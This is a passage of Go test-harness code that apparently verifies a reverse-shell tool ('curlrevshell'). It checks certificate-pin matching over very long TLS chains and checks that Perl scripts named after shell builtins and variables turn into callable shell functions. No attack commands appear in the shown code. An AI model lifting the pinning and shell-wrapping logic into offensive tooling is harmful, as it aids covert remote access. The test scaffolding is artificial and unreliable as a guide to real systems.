	// 4 … 40
	var lens []int
	if r.Thorough() {
		for n := 4; n <= 40; n++ {
			lens = append(lens, n)
		}
	} else {
		lens = append(lens, longLensQuick...)
	}
	rng := r.Rng("long-identities", 0)
	for i := 0; i < r.N(3, 11); i++ {
		lens = append(lens, 4+rng.IntN(37))
	}
	off := rng.IntN(len(longKinds))
	for i, n := range lens {
		if err := mk(n, longKinds[(i+off)%len(longKinds)]); err != nil {
			return nil, err
		}
	}
	// the giants: the largest pile crypto/tls carries, and hierarchies deeper than any validator follows
	pool, pk, err := pile(800, fmt.Sprintf("c13 long %d pile, as long as crypto/tls carries", len(ids)))
	if err != nil {
		return nil, err
	}
	best, conns := largestPile(pool, pk, 40)
	r.Count("long_chain_limit_search_handshakes", int64(conns))
	if best == 0 {
		return nil, fmt.Errorf("the harness's own TLS client cannot handshake with a server presenting 40 certificates")
	}
	r.Count("long_chain_largest_chain_that_handshakes_on_tls12_and_tls13", int64(best))
	if best == len(pool) {
		r.Count("long_chain_limit_not_reached_by_the_pool", 1)
	}
	if err := add(longPile, "selfsigned", pk, pool[:best], nil); err != nil {
		return nil, err
	}
	giants := []int{101 + rng.IntN(60)}
	if r.Thorough() {
		giants = append(giants, 200+rng.IntN(100), best/2+rng.IntN(best/4))
	}
	for i, n := range giants {
		kind := []string{longOwnRoot, longPile, longOwnRoot}[i%3]
		if n > best {
			n = best
		}
		if err := mk(n, kind); err != nil {
			return nil, err
		}
	}
	return ids, nil
}

func (w *world) loadLong(path string) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	var f idFile
	if err := json.Unmarshal(b, &f); err != nil {
		return err
	}
	for _, id := range f.IDs {
		if id.ID != len(w.ids) {
			return fmt.Errorf("long identity %d would get index %d", id.ID, len(w.ids))
		}
		if err := id.load(); err != nil {
			return err
		}
		for _, der := range id.Omitted {
			c, err := x509.ParseCertificate(der)
			if err != nil {
				return err
			}
			h := sha256.Sum256(c.RawSubjectPublicKeyInfo)
			id.omittedPins = append(id.omittedPins, h[:])
		}
		w.ids = append(w.ids, id)
		w.long = append(w.long, id)
	}
	if len(w.long) == 0 {
		return fmt.Errorf("no long-chain identities")
	}
	return nil
}

// presentsAll is the positive control of the dimension: the harness's own TLS
// client handshakes with a listener of the identity (the same kind of listener
// the calls get) and receives every certificate, with the keys the oracle
// computes its pins from.
func (w *world) presentsAll(id *identity, tls13 bool) bool {
	ep, err := startEndpoint(id, "raw", false, tls13)
	if err != nil {
		return false
	}
	defer ep.close()
	c, err := tls.DialWithDialer(&net.Dialer{Timeout: 10 * time.Second}, "tcp", ep.tcp.Addr().String(), &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}})
	if err != nil {
		return false
	}
	defer c.Close()
	cs := c.ConnectionState()
	if (cs.Version == tls.VersionTLS13) != tls13 || len(cs.PeerCertificates) != len(id.pins) {
		return false
	}
	for i, pc := range cs.PeerCertificates {
		h := sha256.Sum256(pc.RawSubjectPublicKeyInfo)
		if !bytes.Equal(h[:], id.pins[i]) {
			return false
		}
	}
	c.SetDeadline(time.Now().Add(10 * time.Second))
	io.WriteString(c, "GET /c13-long-chain-control HTTP/1.1\r\nHost: control\r\nConnection: close\r\n\r\n")
	var one [1]byte
	n, _ := c.Read(one[:])
	return n == 1
}

type longStep struct {
	intent   string // right | wrong | unpinned | malformed
	spelling string
	fp       string
	pos      int      // position of the certificate whose pin is configured (-1: none of the presented ones)
	names    []string // named positions that coincide with pos
}

// namedPositions: first, middle, 10th, 11th, 16th, last - those the chain has.
func namedPositions(n int) (order []int, names map[int][]string) {
	names = map[int][]string{}
	for _, p := range []struct {
		name string
		pos  int
	}{{"first", 0}, {"middle", n / 2}, {"10th", 9}, {"11th", 10}, {"16th", 15}, {"last", n - 1}} {
		if p.pos >= n {
			continue
		}
		if _, ok := names[p.pos]; !ok {
			order = append(order, p.pos)
		}
		names[p.pos] = append(names[p.pos], p.name)
	}
	return order, names
}

func spellRightPin(p []byte, rng *mrand.Rand) (class, fp string) {
	switch x := rng.IntN(10); {
	case x < 5:
		return "exact", b64(p)
	case x < 8:
		return "prefixed", prefix + b64(p)
	case x < 9:
		const alpha = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
		s := []byte(b64(p))
		v := strings.IndexByte(alpha, s[42])
		s[42] = alpha[v|(1+rng.IntN(3))]
		return "noncanonical-bits", string(s)
	}
	return "trailing-newline", b64(p) + "\n"
}

// longSteps: the calls of one sequence against identity id, in PRNG order.
func (w *world) longSteps(id *identity, rng *mrand.Rand) []longStep {
	n := len(id.pins)
	order, names := namedPositions(n)
	if p := 1 + rng.IntN(n-1); names[p] == nil { // any but the first
		order = append(order, p)
		names[p] = []string{"prng"}
	}
	var steps []longStep
	for _, p := range order {
		class, fp := spellRightPin(id.pins[p], rng)
		steps = append(steps, longStep{"right", class + "@" + names[p][0], fp, p, names[p]})
	}
	deep := n - 1 // the deepest of the named positions from the 10th on, else the last
	for _, p := range []int{15, 10, 9} {
		if p < n && rng.IntN(2) == 0 {
			deep = p
			break
		}
	}
	notPresented := func(q []byte) bool {
		for _, mine := range id.pins {
			if bytes.Equal(mine, q) {
				return false
			}
		}
		return true
	}
	// 1: one bit of a deep pin flipped
	q := bytes.Clone(id.pins[deep])
	bit := rng.IntN(256)
	q[bit/8] ^= 1 << (bit % 8)
	steps = append(steps, longStep{"wrong", "deep-bitflip", b64(q), -1, nil})
	// 2: the pin another long server has at that depth (or at its end)
	for try := 0; try < 32; try++ {
		o := w.long[rng.IntN(len(w.long))]
		if o == id {
			continue
		}
		oq := o.pins[min(deep, len(o.pins)-1)]
		if notPresented(oq) { // the trusted CA's certificate is shared between hierarchies
			fp := b64(oq)
			if rng.IntN(3) == 0 {
				fp = prefix + fp
			}
			steps = append(steps, longStep{"wrong", "other-long-server", fp, -1, nil})
			break
		}
	}
	// 3: the hash of the deep CERTIFICATE instead of its key
	h := sha256.Sum256(id.Chain[deep])
	steps = append(steps, longStep{"wrong", "deep-cert-hash", b64(h[:]), -1, nil})
	// 4: the pin of the root the server did not present / all zero
	if len(id.omittedPins) > 0 && notPresented(id.omittedPins[0]) {
		steps = append(steps, longStep{"wrong", "absent-root", b64(id.omittedPins[0]), -1, nil})
	} else {
		steps = append(steps, longStep{"wrong", "zero", b64(make([]byte, 32)), -1, nil})
	}
	// 5: the pin of one of the short-chain servers
	if o := w.self[rng.IntN(len(w.self))]; notPresented(o.pins[0]) {
		steps = append(steps, longStep{"wrong", "other-server", b64(o.pins[0]), -1, nil})
	}
	steps = append(steps, longStep{"unpinned", "unpinned", "", -1, nil})
	steps = append(steps, longStep{"malformed", "deep-len31", b64(id.pins[deep][:31]), -1, nil})
	rng.Shuffle(len(steps), func(i, j int) { steps[i], steps[j] = steps[j], steps[i] })
	return steps
}

func depthBuckets(pos int) []string {
	var out []string
	for _, b := range []int{10, 15, 20, 30, 39, 100} {
		if pos >= b {
			out = append(out, fmt.Sprintf("%d", b))
		}
	}
	return out
}

// runLong: sequence number index, over one long-chain identity (all in turn),
// in the process that has run the sequences before it.
func (w *world) runLong(index int, sample bool) {
	r := w.r
	rng := r.Rng("long", index)
	id := w.long[index%len(w.long)]
	n := len(id.pins)
	steps := w.longSteps(id, rng)
	var results []*callResult
	var specs []callSpec
	var sig []string
	for i, st := range steps {
		kind := "raw"
		if rng.IntN(2) == 0 {
			kind = "https"
		}
		spec := callSpec{Ident: id.ID, Class: id.Class, ChainLen: n, Kind: kind, H2: rng.IntN(3) != 0, TLS13: (index+i)%2 == 0,
			Intent: st.intent, Spelling: st.spelling, FP: st.fp, Scheme: "https", LongKind: id.Long}
		if rng.IntN(4) == 0 {
			spec.Scheme = schemeVariants[rng.IntN(len(schemeVariants))]
		}
		specs = append(specs, spec)
		res := w.exec(spec, true)
		res.Key, res.What = w.judge(res)
		if res.Key != "" {
			res.Key += ":long-chain"
			res.What += fmt.Sprintf(" [long chain: the server presents %d certificates (%s)]", n, id.Long)
		}
		e := res.Exp
		ver := map[bool]string{true: "tls13", false: "tls12"}[spec.TLS13]
		r.Count("long_chain_calls", 1)
		r.Count("long_chain_calls_to:"+id.Long, 1)
		if n > 40 {
			r.Count("long_chain_calls_to_servers_presenting_more_than_40_certificates", 1)
		}
		switch {
		case st.intent == "right":
			if e.Expect != "accept" || e.MatchPos != st.pos {
				r.Inconclusive(fmt.Sprintf("long chains: the oracle does not find the pin of certificate %d of %d at that position (%+v)", st.pos+1, n, e))
				break
			}
			ok := res.Observed == "accepted"
			r.Count("long_chain_matching_pin_calls", 1)
			if ok {
				r.Count("long_chain_matching_pin_calls_accepted", 1)
			}
			for _, nm := range st.names {
				r.Count("long_chain_pin_of_the_"+nm+"_certificate", 1)
				if ok {
					r.Count("long_chain_pin_of_the_"+nm+"_certificate_accepted", 1)
				}
			}
			if ok && st.pos >= 10 {
				r.Count("long_chain_matches_from_the_11th_certificate_on_accepted_"+ver, 1)
				r.Count("long_chain_matches_from_the_11th_certificate_on_accepted_by_a_"+kind+"_server", 1)
				r.Count("long_chain_matches_from_the_11th_certificate_on_accepted_in:"+id.Long, 1)
			}
			if ok {
				for _, b := range depthBuckets(st.pos) {
					r.Count("long_chain_matches_accepted_at_position_"+b+"_or_later", 1)
				}
				if st.pos == n-1 && n > 40 {
					r.Count("long_chain_matches_accepted_at_the_end_of_more_than_40_certificates", 1)
				}
			}
		case st.intent == "wrong":
			if e.Expect != "refuse-handshake" {
				r.Inconclusive(fmt.Sprintf("long chains: the oracle takes the wrong pin %s(%q) for something else (%+v)", st.spelling, st.fp, e))
				break
			}
			r.Count("long_chain_mismatching_pin_calls", 1)
			r.Count("long_chain_wrong_pin:"+st.spelling, 1)
			if res.Observed == "refused-at-handshake" {
				r.Count("long_chain_mismatching_pin_calls_refused_at_handshake", 1)
				if id.valid() {
					// ordinary validation would let this call through: the pin alone stops it
					r.Count("long_chain_mismatching_pin_calls_to_valid_hierarchies_refused_at_handshake", 1)
				}
			}
		case st.intent == "unpinned":
			r.Count("long_chain_unpinned_calls", 1)
			if e.Expect == "accept" && res.Observed == "accepted" {
				r.Count("long_chain_unpinned_calls_to_valid_hierarchies_accepted", 1)
			}
			if e.Expect == "refuse-handshake" && res.Observed == "refused-at-handshake" {
				r.Count("long_chain_unpinned_calls_to_other_servers_refused_at_handshake", 1)
			}
		default:
			r.Count("long_chain_malformed_calls", 1)
		}
		results = append(results, res)
		sig = append(sig, shape(spec, e))
		r.Distinct("call|" + shape(spec, e))
		w.report("long", index, res, map[string]any{"position_in_sequence": i, "sequence": brief(specs), "long_chain_kind": id.Long, "certificates_presented": n,
			"pin_of_certificate_number": st.pos + 1, "named_positions": st.names})
	}
	for _, t13 := range []bool{false, true} {
		ver := map[bool]string{true: "tls13", false: "tls12"}[t13]
		if w.presentsAll(id, t13) {
			r.Count("long_chain_servers_shown_to_present_every_certificate_"+ver, 1)
		} else {
			r.Count("long_chain_presentation_controls_failed", 1)
			r.Inconclusive(fmt.Sprintf("long chains: the harness's own TLS client did not get all %d certificates of identity %d (%s) over %s", n, id.ID, id.Long, ver))
		}
	}
	r.Eval(1)
	r.Distinct("long|" + strings.Join(sig, ","))
	r.Count(fmt.Sprintf("long_chain_len_%03d", n), 1)
	if sample {
		r.Sample("long", map[string]any{"index": index, "certificates_presented": n, "kind": id.Long, "calls": sampleOf(results)})
	}
}

// longSummary is what the evidence says about the identities of the dimension.
func longSummary(ids []*identity) map[string]any {
	var lens []int
	kinds := map[string]int{}
	for _, id := range ids {
		lens = append(lens, len(id.Chain))
		kinds[id.Long]++
	}
	sort.Ints(lens)
	return map[string]any{"chain_lengths": lens, "kinds": kinds}
}

const longAssumption = "long chains: a certificate is 'presented' when it is in the server's Certificate message, wherever - the statement and its quantifier ('certificate chains with the match at any position') put no bound on the position, so the oracle stays the unchanged function of the call's own presented chain and fingerprint: the pin of ANY presented certificate is accepted, the pin of a certificate of the same hierarchy that is NOT presented (the root most real servers leave out) is refused like any other wrong pin. How long a chain can be is decided by crypto/tls alone (a Certificate message of up to 256 KiB): the largest chain served is the largest pile with which the harness's own crypto/tls client completes a handshake on TLS 1.2 and on TLS 1.3 and receives every certificate, found by bisection in the same run; every long-chain server is shown, after its calls, to hand the harness's own client all its certificates (with the keys the oracle hashed) on both TLS versions; the hierarchies under the trusted CA (of at most 40 certificates) pass the harness's own x509 verification before they are called 'valid'"

func longRule(r *mon.Run) string {
	return "LONG CHAINS (engine long): besides the chains of 1-3 above, servers that present chains of 4 … 40 certificates (quick: " + fmt.Sprint(longLensQuick) + " and " + fmt.Sprint(r.N(3, 11)) + " PRNG lengths; thorough: every length 4 … 40 and PRNG ones) and giants: a hierarchy of 101-160 certificates (thorough: also 200-300 and a pile of half to three quarters of the maximum) and a pile of the LARGEST number of certificates that handshakes on TLS 1.2 and 1.3 (some 640 small certificates, crypto/tls's 256 KiB Certificate message; found by bisection with the harness's own client: long_chain_largest_chain_that_handshakes_on_tls12_and_tls13). Kinds, in turn from a PRNG offset: " + strings.Join(longKinds, ", ") + " = a self-signed leaf followed by unrelated self-signed P-256 / Ed25519 certificates; genuine hierarchies leaf ← intermediates ← root with a root of their own, with the trusted harness CA as root, and with the trusted root left out of what the server presents. One sequence = one such server (all in turn, " + fmt.Sprint(r.N(2, 5)) + " sequences each, " + fmt.Sprint(longPerProcess) + " sequences per process, every call against a listener of its own presenting that chain), in PRNG order: the pin (exact / prefixed / non-canonical bits / trailing LF, PRNG) of the FIRST, the MIDDLE, the 10th, 11th, 16th, the LAST and one PRNG-chosen certificate (those the chain has); wrong pins against the same server - one bit of a deep pin (16th / 11th / 10th / last) flipped, the pin another long-chain server has at that depth, the hash of the deep certificate instead of its key, the pin of the root that was not presented (else all zero), the pin of a short-chain server; one call without fingerprint (accepted iff the hierarchy is under the trusted CA) and one malformed fingerprint (31 bytes of a deep pin); TLS 1.2 and 1.3 alternate call by call, raw and net/http servers, HTTP/2, scheme case and process configuration as in seq. Oracle unchanged; counted per named position, per depth (match at position ≥10, ≥15, ≥20, ≥30, ≥39, ≥100), per TLS version, server kind and chain kind."
}

// longFloors: a run that did not exercise the dimension does not pass.  The
// structural numbers follow from the identities; 'accepted' floors leave room
// for the one spelling in ten (trailing LF) a library may refuse outright.
func longFloors(r *mon.Run, ids []*identity, per int) {
	seqs := int64(len(ids) * per)
	cnt := map[string]int64{}
	var right, giants, valid, absent, other int64
	lens := map[int]bool{}
	for _, id := range ids {
		n := len(id.Chain)
		lens[n] = true
		order, names := namedPositions(n)
		right += int64(len(order) * per)
		for _, nm := range names {
			for _, x := range nm {
				cnt[x] += int64(per)
			}
		}
		if n > 40 {
			giants += int64(per)
		}
		switch {
		case id.Class == "ca-valid":
			valid += int64(per)
			if len(id.Omitted) > 0 {
				absent += int64(per)
			}
		default:
			other += int64(per)
		}
	}
	r.Count("long_chain_identities", int64(len(ids)))
	r.Count("long_chain_distinct_lengths_served", int64(len(lens)))
	r.Count("long_chain_presentation_controls_failed", 0)
	r.Floor("long_chain_distinct_lengths_served", int64(r.N(13, 40)))
	r.Floor("long_chain_largest_chain_that_handshakes_on_tls12_and_tls13", 40)
	r.Floor("long_chain_trusted_hierarchies_verified_by_the_harness", int64(r.N(6, 20)))
	r.Floor("long_chain_sequences", seqs)
	r.Floor("long_chain_servers_shown_to_present_every_certificate_tls12", seqs)
	r.Floor("long_chain_servers_shown_to_present_every_certificate_tls13", seqs)
	r.Floor("long_chain_calls", seqs*10)
	r.Floor("long_chain_calls_to_servers_presenting_more_than_40_certificates", giants*10)
	r.Floor("long_chain_matching_pin_calls", right)
	r.Floor("long_chain_matching_pin_calls_accepted", right*7/10)
	for _, nm := range []string{"first", "middle", "10th", "11th", "16th", "last"} {
		r.Floor("long_chain_pin_of_the_"+nm+"_certificate", cnt[nm])
		r.Floor("long_chain_pin_of_the_"+nm+"_certificate_accepted", cnt[nm]*7/10)
	}
	r.Floor("long_chain_pin_of_the_prng_certificate_accepted", int64(r.N(4, 50)))
	r.Floor("long_chain_matches_accepted_at_the_end_of_more_than_40_certificates", giants*3/4)
	for _, k := range longKinds {
		r.Floor("long_chain_calls_to:"+k, int64(r.N(40, 400)))
		r.Floor("long_chain_matches_from_the_11th_certificate_on_accepted_in:"+k, int64(r.N(3, 60)))
	}
	for _, v := range []string{"tls12", "tls13"} {
		r.Floor("long_chain_matches_from_the_11th_certificate_on_accepted_"+v, int64(r.N(12, 200)))
	}
	for _, k := range []string{"raw", "https"} {
		r.Floor("long_chain_matches_from_the_11th_certificate_on_accepted_by_a_"+k+"_server", int64(r.N(12, 200)))
	}
	for b, f := range map[string][2]int{"10": {36, 500}, "15": {20, 300}, "20": {10, 150}, "30": {6, 80}, "39": {5, 30}, "100": {4, 20}} {
		r.Floor("long_chain_matches_accepted_at_position_"+b+"_or_later", int64(r.N(f[0], f[1])))
	}
	r.Floor("long_chain_mismatching_pin_calls", seqs*4)
	r.Floor("long_chain_mismatching_pin_calls_refused_at_handshake", seqs*4)
	r.Floor("long_chain_mismatching_pin_calls_to_valid_hierarchies_refused_at_handshake", valid*4)
	for _, c := range []string{"deep-bitflip", "deep-cert-hash", "other-server"} {
		r.Floor("long_chain_wrong_pin:"+c, seqs)
	}
	r.Floor("long_chain_wrong_pin:other-long-server", seqs*9/10)
	r.Floor("long_chain_wrong_pin:absent-root", absent)
	r.Floor("long_chain_unpinned_calls", seqs)
	r.Floor("long_chain_unpinned_calls_to_valid_hierarchies_accepted", valid)
	r.Floor("long_chain_unpinned_calls_to_other_servers_refused_at_handshake", other)
	r.Floor("long_chain_malformed_calls", seqs)
}

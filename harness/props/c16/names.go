package c16

// Engine names: function names that mean something to the shell.
//
// The statement gives the function "the file's base name without its
// extension" for EVERY Perl script, so kill.pl, type.pl, test.pl, PATH.pl ...
// get functions called kill, type, test, PATH.  Which of those names a shell
// lets a script define and call as a function is the shell's business, and is
// established here by asking each shell itself (`name() { >./called-$#; };
// name a b` - a body without any command, so that it cannot depend on the name
// under test).  For every (name, shell) pair the shell accepts, a generated
// program saved under that name must behave through its function as under
// perl - the same oracle as for any other name.  Pairs the shell refuses are
// counted and not judged.

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/lib/shellfuncsfile"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
)

var nameShells = []shellSpec{shDash, shBash, shBashPosix}

type nameClass struct {
	class string
	names string
}

// candidates are script base names taken from what the shells and their
// users already call something.  The order is part of the case numbering
// (index = position*nameReps + repetition): append, never insert.
var candidateClasses = []nameClass{
	{"regular_builtin", `alias bg cd command echo false fc fg getopts hash jobs kill printf pwd read test true type ulimit umask unalias wait [`},
	{"special_builtin", `break : . continue eval exec exit export readonly return set shift times trap unset`},
	{"bash_builtin", `bind builtin caller compgen complete declare dirs disown enable help history let local logout mapfile popd pushd readarray shopt source suspend typeset`},
	{"reserved_word", `if then else elif fi for while until do done case esac in function select time coproc { } ! [[ ]]`},
	{"utility", `ls cat env perl sh dash bash rm mkdir sed awk grep sort head tail tr cut wc tee xargs find date sleep id uname basename dirname expr seq touch chmod cp mv ln nohup nice timeout stty tty who ps`},
	{"variable", `PATH HOME IFS PS1 PS2 PS4 PWD OLDPWD OPTIND OPTARG ENV LINENO PPID RANDOM SHELL USER LANG LC_ALL TERM MAIL BASH BASH_ENV FUNCNAME FUNCNEST HISTFILE PERL5OPT PERL5DB PERL5LIB _`},
}

type candidate struct {
	name, class string
}

func candidates() []candidate {
	var out []candidate
	for _, c := range candidateClasses {
		for _, n := range strings.Fields(c.names) {
			out = append(out, candidate{n, c.class})
		}
	}
	return out
}

// nameReps is the stride of the case numbering: at most this many programs
// per name.
const nameReps = 8

const probeTimeout = 60 * time.Second

// shellAccepts asks the shell whether a script may define and call a function
// called name.  ok=false: the question could not be put (watchdog).
func shellAccepts(r *mon.Run, spec shellSpec, ci int, name string) (accepts, ok bool) {
	d := filepath.Join(r.Work, fmt.Sprintf("names-probe-%d-%s", ci, spec.dir))
	if err := os.MkdirAll(d, 0o755); err != nil {
		r.Inconclusive("mkdir: " + err.Error())
		return false, false
	}
	defer os.RemoveAll(d)
	text := name + `() { >./called-$#; }; ` + name + ` a b`
	args := append(append([]string{}, spec.pre...), "-c", text)
	res := mon.Proc{Path: spec.path, Args: args, Env: fixedEnv, Dir: d, Stdin: []byte{}, Timeout: probeTimeout}.Run()
	if res.TimedOut {
		r.Inconclusive(fmt.Sprintf("names: asking %s whether %q can be a function hit the %s watchdog", spec.label, name, probeTimeout))
		return false, false
	}
	_, err := os.Stat(filepath.Join(d, "called-2"))
	return res.Status == 0 && res.Signal == "" && err == nil, true
}

// wrapperUses reports whether the function text itself - without the comment
// lines in front of it, the `name()` that opens it and the encoded script -
// contains name as a word.  Such a function may call itself.
func wrapperUses(fn, name string) bool {
	for strings.HasPrefix(fn, "#") {
		i := strings.IndexByte(fn, '\n')
		if i < 0 {
			return false
		}
		fn = fn[i+1:]
	}
	fn = strings.TrimPrefix(fn, name+"()")
	if i := strings.Index(fn, bodyOpen); i >= 0 {
		if j := strings.Index(fn[i:], bodyClose); j >= 0 {
			fn = fn[:i] + " " + fn[i+j:]
		}
	}
	isWord := func(c rune) bool {
		return c == '_' || c >= '0' && c <= '9' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
	}
	for _, w := range strings.FieldsFunc(fn, func(c rune) bool { return !isWord(c) }) {
		if w == name {
			return true
		}
	}
	for _, w := range strings.FieldsFunc(fn, func(c rune) bool { return strings.ContainsRune(" \t\n;|&()", c) }) {
		if w == name {
			return true
		}
	}
	return false
}

func labels(ss []shellSpec) []string {
	var out []string
	for _, s := range ss {
		out = append(out, s.label)
	}
	return out
}

// fileFor places the name in a path: the function's name is the base name
// without its (last) extension, whatever the directory and the extension.
func fileFor(name string, k int) string {
	forms := []string{"%s.pl", "%s.perl", "./%s.pl", "lib/dir/%s.pl", "/abs/path/to/%s.pl", "%s.PL", "%s.p"}
	if !strings.Contains(name, ".") {
		forms = append(forms, "%s") // no extension at all
	}
	return fmt.Sprintf(forms[k%len(forms)], name)
}

type nameCase struct {
	idx     int
	cand    candidate
	shells  []shellSpec
	p       *program
	fnb     []byte
	contain bool
}

func runNames(r *mon.Run, pa *acc) {
	// coverage of the names engine is kept out of the prog engine's
	a := &acc{argsSeen: map[string]bool{}, features: map[string]int{}, packers: pa.packers}
	defer func() { r.Extra("names_feature_counts", a.features) }()
	cands := candidates()
	r.Count("names_candidates", int64(len(cands)))

	// ---- which shell lets a script define and call which name ----------------
	accepted := make([][]bool, len(cands))
	asked := make([]bool, len(cands))
	for i := range accepted {
		accepted[i] = make([]bool, len(nameShells))
	}
	var askMu sync.Mutex
	wanted := func(ci int) bool {
		for rep := 0; rep < nameReps; rep++ {
			if r.Want("names", ci*nameReps+rep) {
				return true
			}
		}
		return false
	}
	mon.Parallel(len(cands)*len(nameShells), runtime.NumCPU(), func(k int) {
		ci, si := k/len(nameShells), k%len(nameShells)
		if !wanted(ci) {
			return
		}
		acc, ok := shellAccepts(r, nameShells[si], ci, cands[ci].name)
		if !ok {
			return
		}
		askMu.Lock()
		asked[ci] = true
		accepted[ci][si] = acc
		askMu.Unlock()
		if acc {
			r.Count("names_accepted_by_"+strings.NewReplacer(" --", "_", " ", "_").Replace(nameShells[si].label), 1)
			r.Count("names_accepted_"+cands[ci].class+"_and_shell_pairs", 1)
		} else {
			r.Count("names_refused_by_the_shell_pairs_not_judged", 1)
		}
	})

	// ---- the cases -------------------------------------------------------------
	reps := r.N(1, 6)
	var open, contained []nameCase
	refusedByAll := []string{}
	for ci, c := range cands {
		if !asked[ci] {
			continue
		}
		var ss []shellSpec
		for si, ok := range accepted[ci] {
			if ok {
				ss = append(ss, nameShells[si])
			}
		}
		if len(ss) == 0 {
			refusedByAll = append(refusedByAll, c.name)
			r.Count("names_refused_by_every_shell", 1)
			continue
		}
		r.Count("names_accepted_by_some_shell", 1)
		for rep := 0; rep < reps; rep++ {
			idx := ci*nameReps + rep
			if !r.Want("names", idx) {
				continue
			}
			rng := r.Rng("names", idx)
			// any generated program but the empty / whitespace-only / comment-only
			// ones, which have findings of their own whatever the name
			var p *program
			for try := 0; ; try++ {
				p = genProgram(rng, 8+ci*7+rep*3+try*1000)
				if p.Kind != "empty" && p.Kind != "whitespace-only" && p.Kind != "comment-only" {
					break
				}
			}
			p.File = fileFor(c.name, rng.IntN(64))
			if got := funcNameOf(p.File); got != c.name {
				r.Inconclusive(fmt.Sprintf("names %d: the harness's own reading of %q yields the name %q, not %q", idx, p.File, got, c.name))
				continue
			}
			p.Features = append(p.Features, "name-class:"+c.class)
			r.Count("names_cases", 1)
			r.Count("names_cases_"+c.class, 1)
			fnb, err := shellfuncsfile.FromPerl(p.File, bytes.NewReader(p.Text))
			if err != nil {
				r.Violate("names", idx, "fromperl-error"+nameKey, fmt.Sprintf("FromPerl returned an error for %s (a %d-byte script), whose function name %s is accepted by %s: %v", p.File, len(p.Text), c.name, strings.Join(labels(ss), ", "), err), map[string]any{"file": p.File, "function_name": c.name, "shells_that_accept_the_name": labels(ss), "error": err.Error(), "script_head": string(head(p.Text, 600))})
				continue
			}
			if fnb == nil {
				fnb = []byte{}
			}
			nc := nameCase{idx: idx, cand: c, shells: ss, p: p, fnb: fnb}
			if wrapperUses(string(fnb), c.name) {
				nc.contain = true
				contained = append(contained, nc)
			} else {
				open = append(open, nc)
			}
		}
	}
	r.Extra("names_refused_by_every_shell", refusedByAll)

	// Names the wrapper's own text uses: contained, one at a time (selfname.go),
	// while the others go on.
	var wg sync.WaitGroup
	var containedDue int64
	usable, why := containmentAvailable(r.Work)
	if len(contained) > 0 && !usable {
		seen := map[string]bool{}
		var ns []string
		for _, nc := range contained {
			r.Count("names_cases_not_run_containment_unavailable", 1)
			if !seen[nc.cand.name] {
				seen[nc.cand.name] = true
				ns = append(ns, nc.cand.name)
			}
		}
		r.Extra("names_not_explored", map[string]any{"names": ns, "why": "the function text uses the name itself, so it may call itself without end; it is only run contained, and " + why})
		r.Assumptions = append(r.Assumptions, "NOT EXPLORED in this run: functions called "+strings.Join(ns, ", ")+" (the wrapper's own text uses the name; containment unavailable: "+why+")")
	} else if len(contained) > 0 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for _, nc := range contained {
				lk, err := acquireSelfLock()
				if err != nil {
					r.Inconclusive(fmt.Sprintf("names %d: %v", nc.idx, err))
					continue
				}
				if left := waitUIDEmpty(selfUID, 2*time.Minute); left != 0 {
					lk.release()
					r.Inconclusive(fmt.Sprintf("names %d: uid %d still has %d processes (left over, or somebody else's) after 2 minutes", nc.idx, selfUID, left))
					continue
				}
				r.Count("names_cases_contained", 1)
				r.Count("names_contained_shell_runs_due", int64(len(nc.shells)))
				atomic.AddInt64(&containedDue, int64(len(nc.shells)))
				checkProgram(r, a, "names", nc.idx, nc.p, nil, &caseOpt{name: nc.cand.name, shells: nc.shells, fnb: nc.fnb, contain: true})
				waitUIDEmpty(selfUID, time.Minute) // the next holder of the lock starts from nothing
				lk.release()
			}
		}()
	}
	mon.Parallel(len(open), runtime.NumCPU(), func(k int) {
		nc := open[k]
		checkProgram(r, a, "names", nc.idx, nc.p, nil, &caseOpt{name: nc.cand.name, shells: nc.shells, fnb: nc.fnb})
	})
	wg.Wait()
	if usable {
		// set here, not in Run: without containment these counters stay empty by design
		r.Floor("names_cases_contained", 3)
		r.Floor("names_contained_shell_runs_judged", 5)
		// a contained run that said nothing about the function (containment refused,
		// watchdog without a failed fork, leftovers) must not go unnoticed
		if due := atomic.LoadInt64(&containedDue); due > 5 {
			r.Floor("names_contained_shell_runs_judged", due)
		}
	}
}
